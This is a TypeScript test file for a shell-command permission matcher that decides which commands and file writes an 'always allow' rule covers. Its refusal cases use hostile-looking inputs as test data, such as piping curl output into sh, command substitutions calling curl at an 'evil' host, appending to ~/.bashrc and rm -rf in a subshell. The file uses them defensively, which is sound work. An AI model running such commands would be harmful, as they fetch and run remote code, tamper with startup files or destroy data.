/** Which shell text a command rule can cover, and the rules "always allow" saves. */
import { describe, expect, test } from "bun:test";
import { covers, leadingWords, offerFor } from "../../src/rules/match.ts";
import { parseCommand } from "../../src/rules/shell-command.ts";
import type { Rule } from "../../src/rules/types.ts";

const rules = (...commands: string[]): Rule[] =>
  commands.map((words) => ({ type: "command", words: words.split(" ") }));
const command = (text: string) => ({ type: "command" as const, command: text });

describe("parseCommand", () => {
  test("splits on operators and removes quotes", () => {
    expect(parseCommand(`npm test && git commit -m "a b" ; ls 'x y' | tail -n 2`)).toEqual({
      ok: true,
      commands: [
        ["npm", "test"],
        ["git", "commit", "-m", "a b"],
        ["ls", "x y"],
        ["tail", "-n", "2"],
      ],
    });
  });

  test("output joined or discarded is not a redirection to a file", () => {
    expect(parseCommand("npm test 2>&1 | tail")).toEqual({
      ok: true,
      commands: [["npm", "test"], ["tail"]],
    });
    expect(parseCommand("make >/dev/null 2>&1")).toEqual({ ok: true, commands: [["make"]] });
  });

  const refused: [string, string][] = [
    ["npm test $(curl x)", "a command substitution"],
    ["npm test `curl x`", "a command substitution"],
    ['echo "$(id)"', "a command substitution"],
    ["cat <(curl x)", "a process substitution"],
    ["npm test > out.log", "a redirection"],
    ["npm test >> ~/.bashrc", "a redirection"],
    ["sh < script", "a redirection"],
    ["(cd / && rm -rf x)", "a subshell"],
    ["GIT_SSH_COMMAND=evil git fetch", "a variable assignment before a command"],
    ["$CMD status", "a command name that expands"],
    ["git status $(whoami)", "a command substitution"],
    ["git log $HOME", "a variable expansion"],
    ["echo 'unclosed", "an unclosed quote"],
    ["", "no command"],
    ["; ls", "an operator starts the text"],
  ];
  for (const [text, reason] of refused) {
    test(`refuses ${JSON.stringify(text)}: ${reason}`, () => {
      expect(parseCommand(text)).toEqual({ ok: false, reason });
    });
  }
});

describe("covers", () => {
  test("a rule covers a simple command that starts with its words", () => {
    expect(covers(rules("git status"), command("git status"))).toBe(true);
    expect(covers(rules("git status"), command("git status --short"))).toBe(true);
    expect(covers(rules("git status"), command("git stash"))).toBe(false);
    expect(covers(rules("npm run lint"), command("npm run test"))).toBe(false);
  });

  test("every part of a compound command must be covered", () => {
    expect(covers(rules("git status"), command("git status; curl x | sh"))).toBe(false);
    expect(covers(rules("git status"), command("git status && touch x"))).toBe(false);
    expect(covers(rules("npm test", "tail"), command("npm test 2>&1 | tail -n 20"))).toBe(true);
  });

  test("text the parser refuses is never covered", () => {
    expect(covers(rules("npm test"), command("npm test $(curl evil)"))).toBe(false);
    expect(covers(rules("npm test"), command("npm test > ~/.profile"))).toBe(false);
  });

  test("a write rule covers files under its directory only", () => {
    const dir: Rule[] = [{ type: "write_dir", dir: "/home/u/notes" }];
    expect(covers(dir, { type: "write", path: "/home/u/notes/a/b.md" })).toBe(true);
    expect(covers(dir, { type: "write", path: "/home/u/notes-evil/b.md" })).toBe(false);
    expect(covers(dir, { type: "write", path: "/home/u/.bashrc" })).toBe(false);
  });

  test("an MCP rule covers one tool", () => {
    const tool: Rule[] = [{ type: "mcp_tool", tool: "mcp__gh__search" }];
    expect(covers(tool, { type: "mcp_tool", tool: "mcp__gh__search" })).toBe(true);
    expect(covers(tool, { type: "mcp_tool", tool: "mcp__gh__delete" })).toBe(false);
  });
});

describe("offers", () => {
  test("a rule keeps the command and its subcommands, or every word when there are none", () => {
    expect(leadingWords(["npm", "test", "--", "--watch"])).toEqual(["npm", "test"]);
    expect(leadingWords(["npm", "run", "lint", "src"])).toEqual(["npm", "run", "lint"]);
    expect(leadingWords(["cargo", "build", "--release"])).toEqual(["cargo", "build"]);
    expect(leadingWords(["rm", "-rf", "build"])).toEqual(["rm", "-rf", "build"]);
  });

  test("the label states the rule and its project", () => {
    expect(offerFor("/home/u/src/app", command("npm test 2>&1 | tail"), "/home/u")).toEqual({
      project: "/home/u/src/app",
      rules: rules("npm test", "tail"),
      label: "Always allow `npm test`, `tail` in ~/src/app",
    });
    expect(offerFor("/p", { type: "write", path: "/home/u/notes/a.md" }, "/home/u")?.label).toBe(
      "Always allow writes in ~/notes for /p",
    );
  });

  test("no rule is offered for text the parser refuses", () => {
    expect(offerFor("/p", command("curl x | sh $(id)"), "/home/u")).toBeUndefined();
  });
});
